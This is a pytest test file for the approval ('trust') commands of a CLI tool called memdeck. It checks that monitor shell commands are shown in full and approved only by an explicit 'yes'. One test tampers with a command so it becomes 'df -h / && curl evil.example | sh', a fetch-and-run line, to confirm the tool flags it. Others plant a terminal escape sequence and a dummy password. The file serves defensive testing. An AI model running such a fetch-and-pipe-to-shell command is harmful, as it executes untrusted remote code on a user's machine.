"""The verbs of consent: what is listed, who may approve, and what a pipe cannot do."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.app.cli.conftest import HOUSE, NOW, Answer
from tests.patience import PATIENCE

Memdeck = Callable[..., Answer]


class Person:
    """A run of memdeck at a terminal of its own."""

    def __init__(self, folder: Path, *words: str) -> None:
        """Start it."""
        self._master, slave = pty.openpty()
        environment = {key: value for key, value in os.environ.items() if not key.startswith(("LC_", "LANG"))}
        environment |= {"PYTHONPATH": str(HOUSE), "LANG": "C.UTF-8", "TERM": "dumb", "COLUMNS": "80"}
        self._process = subprocess.Popen(
            [sys.executable, "-m", "app.main", "--now", NOW, *words],
            cwd=folder,
            env=environment,
            stdin=slave,
            stdout=slave,
            stderr=slave,
            start_new_session=True,
        )
        os.close(slave)
        self.seen = ""

    def wait_for(self, words: str) -> str:
        """Read until some words are on the screen."""
        while words not in self.seen and self._read():
            pass
        assert words in self.seen, self.seen
        return self.seen

    def _read(self) -> bool:
        assert select.select([self._master], [], [], PATIENCE)[0], self.seen
        try:
            data = os.read(self._master, 65536)
        except OSError:  # Linux says so when the other end is closed
            return False
        self.seen += data.decode("utf-8", "replace").replace("\r\n", "\n")
        return bool(data)

    def type(self, text: str) -> None:
        """Type a line."""
        os.write(self._master, text.encode())

    def end(self) -> int:
        """Wait for its end and return the exit code."""
        while self._read():
            pass
        os.close(self._master)
        return self._process.wait(PATIENCE)


def rows_of(memdeck: Memdeck) -> list[dict[str, Any]]:
    """Return what `trust list` lists."""
    return memdeck("trust", "list", "-o", "json").data["trust"]


def id_of(memdeck: Memdeck, name: str, role: str) -> str:
    """Return the id of what one entry asks for."""
    return next(row["id"] for row in rows_of(memdeck) if row["name"] == name and row["role"] == role)


def test_everything_that_asks_is_listed(memdeck: Memdeck) -> None:
    """Checks, addresses, remediations and actions are pending with id, place, text and reason."""
    answer = memdeck("trust", "list", "-o", "json")
    assert answer.code == 0
    rows = answer.data["trust"]
    assert {(row["role"], row["name"]) for row in rows} >= {
        ("url", "API Health Check"),
        ("remediate", "API Health Check"),
        ("check", "Database Connection"),
        ("check", "Disk Space"),
        ("action", "Deploy v2.1 to staging"),
    }
    assert {row["state"] for row in rows} == {"pending"}
    assert all(len(row["id"]) == 10 and row["why"] and row["line"] > 1 for row in rows)
    assert answer.data["workspace"]["approved"] is False
    assert not any(row["role"] == "remediate" and row["name"] == "Disk Space" for row in rows)
    assert len(memdeck("trust", "list", "-o", "jsonl").objects) == len(rows)
    human = memdeck("trust", "list").out
    assert "pg_isready -h localhost -p 5432" in human
    assert "outgoing checks of public addresses: not approved" in human


def test_a_person_approves_what_is_shown_whole(memdeck: Memdeck, shop: Path) -> None:
    """The command, where it comes from and where it runs are shown; `yes` approves it and nothing else."""
    one = id_of(memdeck, "Disk Space", "check")
    person = Person(shop, "trust", "approve", one[:7])
    shown = person.wait_for("Write yes")
    for words in (
        "Run this command to check “Disk Space”?",
        "| df -h / | awk 'NR==2 {print $5}' | tr -d '%'",
        "monitors.md, line",
        "value > 90",
        "a private temporary folder, deleted afterwards",
    ):
        assert words in shown
    person.type("yes\n")
    assert person.end() == 0
    assert f"approved {one}" in person.seen
    states = {row["name"]: row["state"] for row in rows_of(memdeck) if row["role"] == "check"}
    assert states == {"Disk Space": "approved", "Database Connection": "pending"}
    changes = memdeck("changes", "list", "-o", "json").data["changes"]
    assert [(row["operation"], row["summary"], row["revertible"]) for row in changes] == [
        ("trust", "approved: check of 'Disk Space'", False)
    ]


@pytest.mark.parametrize("answer", ["\n", "y\n", "no\n", "yes please\n", "\x04"], ids=repr)
def test_anything_but_yes_is_no(memdeck: Memdeck, shop: Path, answer: str) -> None:
    """Enter, a letter, or the end of input leave everything as it was."""
    person = Person(shop, "trust", "approve", id_of(memdeck, "Disk Space", "check"))
    person.wait_for("Write yes")
    person.type(answer)
    assert person.end() == 0
    assert "not approved" in person.seen
    assert {row["state"] for row in rows_of(memdeck)} == {"pending"}


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (("trust", "deny", "fffffffff"), 1, "trust.not_found"),
        (("trust", "deny", "ab"), 1, "trust.not_found"),
        (("trust", "approve"), 2, "usage.arguments"),
        (("trust", "revoke", "abcd1234", "--workspace"), 2, "usage.arguments"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, tuple) else "",
)
def test_wrong_calls(memdeck: Memdeck, words: tuple[str, ...], code: int, said: str) -> None:
    """Each has its code."""
    answer = memdeck(*words)
    assert (answer.code, said in answer.err) == (code, True)


def test_hidden_characters_are_shown_and_refused(memdeck: Memdeck, memory: Path) -> None:
    """A command with an escape sequence has no id, and its escape is visible in both forms of the list."""
    path = memory / "monitors.md"
    path.write_bytes(path.read_bytes().replace(b"command: pg_isready", b"command: \x1b[2Kpg_isready"))
    row = next(row for row in rows_of(memdeck) if row["name"] == "Database Connection" and row["role"] == "check")
    assert (row["state"], row["id"]) == ("refused", None)
    assert "\\x1b" in row["why"]
    human = memdeck("trust", "list", "--blocked").out
    assert "\x1b" not in human
    assert "\\x1b[2Kpg_isready" in human


def test_a_changed_command_is_shown_with_what_it_was(memdeck: Memdeck, memory: Path, shop: Path) -> None:
    """After an approval and a change the question shows both, and the old one does not count."""
    person = Person(shop, "trust", "approve", id_of(memdeck, "Disk Space", "check"))
    person.wait_for("Write yes")
    person.type("yes\n")
    assert person.end() == 0
    path = memory / "monitors.md"
    path.write_bytes(path.read_bytes().replace(b"command: df -h /", b"command: df -h / && curl evil.example | sh"))
    row = next(row for row in rows_of(memdeck) if row["name"] == "Disk Space")
    assert row["state"] == "withdrawn"
    assert "command" in row["why"]
    person = Person(shop, "trust", "approve", row["id"])
    shown = person.wait_for("Write yes")
    assert "  - df -h / | awk" in shown
    assert "  + df -h / && curl evil.example | sh" in shown
    assert "may pipe what it reads into sh" in shown
    assert "reaches other machines (curl)" in shown
    person.type("no\n")
    assert person.end() == 0


def test_a_damaged_record_is_said_and_counts_for_nothing(memdeck: Memdeck, shop: Path, tmp_path: Path) -> None:
    """`trust list` and `doctor` say it; the next decision keeps the damaged file under another name."""
    memdeck("trust", "deny", id_of(memdeck, "Disk Space", "check"))
    (record,) = (tmp_path / "state").rglob("approvals.json")
    record.write_bytes(record.read_bytes().replace(b"denied", b"approved"))
    answer = memdeck("trust", "list", "-o", "json").data
    assert {row["state"] for row in answer["trust"]} == {"pending"}
    assert "damaged" in answer["problems"][0]
    checks = json.loads(memdeck("doctor", "-o", "json").out)["checks"]
    assert [check["level"] for check in checks if check["name"] == "trust"] == ["person"]
    memdeck("trust", "deny", id_of(memdeck, "Disk Space", "check"))
    assert record.with_name("approvals.json.damaged").exists()
    assert not memdeck("trust", "list", "-o", "json").data["problems"]


def test_a_secret_is_warned_of_and_never_shown(memdeck: Memdeck) -> None:
    """Writing one works, with a warning on stderr that names the line; `check` names it, too; none shows it."""
    added = memdeck("tasks", "add", "Log in", "--notes", "password: hunter2")
    assert added.code == 0
    assert "warning: tasks.md:" in added.err
    assert "hunter2" not in added.err
    checked = memdeck("check", "-o", "json")
    assert checked.code == 0
    codes = [problem["code"] for problem in checked.data["problems"] if problem["level"] == "warning"]
    assert [code for code in codes if code != "monitor.stale"] == ["secret.found", "content.suspicious"]
    assert "hunter2" not in checked.out


def test_denied_and_revoked(memdeck: Memdeck) -> None:
    """A denial stays until the command changes, and can be taken back."""
    one = id_of(memdeck, "Database Connection", "check")
    denied = memdeck("trust", "deny", one, "-o", "json")
    assert denied.data == {"denied": [{"id": one, "role": "check", "name": "Database Connection"}]}
    assert next(row["state"] for row in rows_of(memdeck) if row["id"] == one) == "denied"
    assert memdeck("trust", "revoke", one).out == f"revoked {one}  check of Database Connection\n"
    assert next(row["state"] for row in rows_of(memdeck) if row["id"] == one) == "pending"
    assert memdeck("trust", "revoke", one).code == 1
